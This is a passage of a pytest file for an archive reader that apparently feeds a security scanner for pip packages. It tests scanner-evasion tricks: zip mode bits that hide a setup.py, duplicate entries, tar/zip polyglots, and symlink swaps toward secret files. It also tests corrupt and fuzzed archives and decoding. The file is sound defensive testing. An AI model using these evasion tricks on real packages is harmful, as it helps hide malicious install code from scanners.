    """pip's unzip and its wheel installer write the entry's bytes to a plain file.

    Before, symlink mode bits made the entry a link that was never read, and
    device/fifo bits hid it entirely: a .py pip installs went unscanned.
    """
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("demo/setup.py")
        info.create_system = 3
        info.external_attr = mode << 16
        zf.writestr(info, HIDDEN)
        zf.writestr("demo/__init__.py", "A = 1\n")
    tree = open_tree(buf.getvalue(), "demo.zip")
    assert sorted(tree.names()) == ["demo/__init__.py", "demo/setup.py"]
    assert tree.read("demo/setup.py") == HIDDEN
    assert tree.links() == []


def test_zip_repeated_name_last_entry_wins() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf, pytest.warns(UserWarning, match="Duplicate name"):
        zf.writestr("demo/setup.py", SETUP)
        zf.writestr("demo/setup.py", HIDDEN)
        zf.writestr("demo/setup.py/", b"")  # a folder entry of that name adds nothing
    tree = open_tree(buf.getvalue(), "demo.zip")
    assert _contents(tree) == {"demo/setup.py": HIDDEN}
    assert tree.duplicates() == ["demo/setup.py"]


def test_zip_name_ending_in_a_backslash_is_a_folder() -> None:
    """pip's unzip makes a folder of any name ending in / or \\, whatever it holds."""
    tree = open_tree(_zip({"demo\\": b"not a file", "demo/x.py": b"x"}), "demo.zip")
    assert tree.names() == ["demo/x.py"]


def test_zip_entry_named_as_the_leading_folder_is_a_folder() -> None:
    """pip strips the leading folder; an entry left with an empty name becomes a folder."""
    sdist = open_tree(_zip({"demo": b"never written", "demo/x.py": b"x"}), "demo.zip")
    assert sdist.names() == ["demo/x.py"]
    wheel = open_tree(_zip({"demo": b"written", "demo/x.py": b"x"}), "demo-1.0-py3-none-any.whl")
    assert sorted(wheel.names()) == ["demo", "demo/x.py"]  # a wheel's names are not stripped


def test_tar_that_is_also_a_zip_is_read_as_pip_reads_a_tar() -> None:
    """pip unpacks a `.tar` as a tar whatever its first bytes; a zip appended behind it
    (zipfile finds one from the end) must not be what the gate reads instead."""
    tar = _tar([("PK\x03\x04demo/setup.py", HIDDEN)])
    polyglot = tar + _zip({"PK\x03\x04demo/setup.py": SETUP})
    assert polyglot[:4] == b"PK\x03\x04"
    tree = open_tree(polyglot, "demo-1.0.tar")
    assert isinstance(tree, TarTree)
    assert _contents(tree) == {"PK\x03\x04demo/setup.py": HIDDEN}
    zipped = open_tree(_zip({"demo/setup.py": SETUP}), "demo-1.0.tar")  # no tar in it
    assert isinstance(zipped, ZipTree)


def test_upper_case_zip_name_is_read_as_a_zip() -> None:
    assert isinstance(open_tree(_zip({"demo/setup.py": SETUP}), "DEMO-1.0.ZIP"), ZipTree)


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_device_members_are_refused(kind: bytes) -> None:
    dev = _special("demo-1.0/setup.py", kind)
    dev.devmajor, dev.devminor = 1, 3
    with pytest.raises(ArchiveError, match="device or fifo"):
        open_tree(_tar([("demo-1.0/PKG-INFO", b"x"), dev], "gz"), "demo-1.0.tar.gz")


def test_member_of_unknown_type_is_refused() -> None:
    """pip's data filter refuses what is not a file, folder or link, so the install fails."""
    with pytest.raises(ArchiveError, match="unknown type"):
        open_tree(gzip.compress(_entry("demo-1.0/setup.py", kind=b"Z") + END), "demo-1.0.tar.gz")


# -- corrupt and truncated --------------------------------------------------------------------


def test_corrupt_gzip_is_archive_error() -> None:
    data = bytearray(_tar([("a/setup.py", SETUP * 50)], "gz"))
    data[len(data) // 2 : len(data) // 2 + 8] = b"\xff" * 8
    with pytest.raises(ArchiveError):
        open_tree(bytes(data), "a.tar.gz")


def test_truncated_gzip_is_archive_error() -> None:
    data = _tar([("a/setup.py", SETUP * 50)], "gz")
    with pytest.raises(ArchiveError, match="truncated"):
        open_tree(data[: len(data) - 12], "a.tar.gz")


def test_truncated_tar_inside_a_member_is_archive_error() -> None:
    data = _tar([("a/PKG-INFO", b"meta\n"), ("a/setup.py", SETUP * 100)])
    cut = data.index(SETUP) + 100  # halfway through setup.py's bytes
    with pytest.raises(ArchiveError):
        open_tree(data[:cut], "a.tar")


@pytest.mark.parametrize("fname", ["a.tar.gz", "a.zip", "a.whl", "a.tar"])
def test_garbage_is_archive_error(fname: str) -> None:
    with pytest.raises(ArchiveError):
        open_tree(b"this is not an archive at all" * 20, fname)


def test_encrypted_zip_member_is_archive_error() -> None:
    data = bytearray(_zip({"a/setup.py": SETUP}, zipfile.ZIP_STORED))
    for sig, off in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):  # set the "encrypted" flag bit
        pos = data.index(sig)
        struct.pack_into("<H", data, pos + off, 0x1)
    tree = open_tree(bytes(data), "a.zip")
    with pytest.raises(ArchiveError):
        tree.read("a/setup.py")


@pytest.mark.parametrize("fmt", ["tar.gz", "tar.bz2", "tar.xz", "tar", "zip"])
def test_mutated_archives_raise_only_archive_error(fmt: str) -> None:
    """Seeded fuzzing: cut or corrupted archives never escape as another exception."""
    members = [(f"p-1/m{i}.py", b"x = %d\n" % i * 200) for i in range(4)]
    if fmt == "zip":
        base = _zip(dict(members))
    else:
        base = _tar(list(members), {"tar.gz": "gz", "tar.bz2": "bz2", "tar.xz": "xz"}.get(fmt, ""))
    rnd = random.Random(fmt)
    for _ in range(300):
        data = bytearray(base)
        if rnd.random() < 0.3:
            data = data[: rnd.randrange(len(data))]
        else:
            for _ in range(rnd.randint(1, 6)):
                data[rnd.randrange(len(data))] = rnd.randrange(256)
        try:
            tree = open_tree(bytes(data), f"p-1.{fmt}")
            for n in tree.names():
                tree.read(n)
        except ArchiveError:
            pass


def test_member_count_cap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_MEMBERS", 5)
    many = [(f"a/f{i}.py", b"") for i in range(10)]
    with pytest.raises(ArchiveError, match="members"):
        open_tree(_tar(list(many), "gz"), "a.tar.gz")
    with pytest.raises(ArchiveError, match="members"):
        open_tree(_zip(dict(many)), "a.zip")


# -- folders ----------------------------------------------------------------------------------


def test_dir_tree_skips_links_vcs_and_special_files(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("do not read\n")
    root = tmp_path / "proj"
    (root / "demo").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    (root / "demo" / "__init__.py").write_text("A = 1\n")
    (root / "setup.py").symlink_to(secret)
    (root / "linked").symlink_to(tmp_path, target_is_directory=True)
    os.mkfifo(root / "pipe")
    tree = DirTree(root)
    assert tree.names() == ["demo/__init__.py"]
    assert sorted(tree.links()) == ["linked", "setup.py"]
    assert tree.read("demo/__init__.py") == b"A = 1\n"
    with pytest.raises(KeyError):
        tree.read("setup.py")
    with pytest.raises(KeyError):
        tree.read("../secret.txt")


def test_dir_tree_refuses_a_file_swapped_for_a_link(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("do not read\n")
    root = tmp_path / "proj"
    root.mkdir()
    (root / "setup.py").write_bytes(SETUP)
    tree = DirTree(root)
    (root / "setup.py").unlink()
    (root / "setup.py").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(ArchiveError):
        tree.read("setup.py")


# -- decoding ---------------------------------------------------------------------------------


def test_decode_utf8() -> None:
    assert decode("name = 'café'\n".encode()) == "name = 'café'\n"


def test_decode_non_utf8_without_cookie_falls_back_to_latin1() -> None:
    raw = b"# auteur: Ren\xe9\nsetup(name='x')\n"
    text = decode(raw)
    assert "René" in text
    ast.parse(text)


def test_decode_honours_pep263_cookie() -> None:
    raw = "# -*- coding: cp1251 -*-\nname = 'привет'\n".encode("cp1251")
    assert "привет" in decode(raw)
    latin = "# vim: set fileencoding=latin-1 :\nx = 'ñ'\n".encode("latin-1")
    assert "'ñ'" in decode(latin)


def test_decode_cookie_that_lies_still_gives_text() -> None:
    raw = b"# coding: utf-8\nx = '\xff\xfe'\n"
    assert decode(raw).endswith("x = '\xff\xfe'\n")


@pytest.mark.parametrize(
    "raw",
    [
        b"# coding: no-such-codec\nx = 1\n",
        b"# coding: hex\nx = 1\n",  # a bytes-to-bytes codec, not a text encoding
        b"\xef\xbb\xbf# coding: latin-1\nx = 1\n",  # BOM contradicting the cookie
    ],
)
def test_decode_never_fails(raw: bytes) -> None:
    text = decode(raw)
    assert "x = 1" in text
    assert not text.startswith("\ufeff")


def test_decode_strips_bom_so_the_text_parses() -> None:
    text = decode(b"\xef\xbb\xbf" + SETUP)
    assert text == SETUP.decode()
    ast.parse(text)
